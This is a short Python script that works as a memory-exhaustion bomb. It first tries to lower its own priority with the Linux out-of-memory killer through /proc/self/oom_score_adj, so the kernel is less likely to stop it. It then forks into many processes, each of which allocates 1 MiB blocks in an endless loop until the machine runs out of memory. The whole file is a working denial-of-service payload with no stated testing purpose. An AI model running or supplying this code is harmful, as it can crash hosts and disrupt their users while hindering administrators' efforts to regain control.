import os

for value in (b"-1000", b"-500", b"0"):
    try:
        descriptor = os.open("/proc/self/oom_score_adj", os.O_WRONLY)
        os.write(descriptor, value)
    except OSError:
        pass
blocks = []
for _ in range(4):
    os.fork()
while True:
    blocks.append(b"x" * (1 << 20))
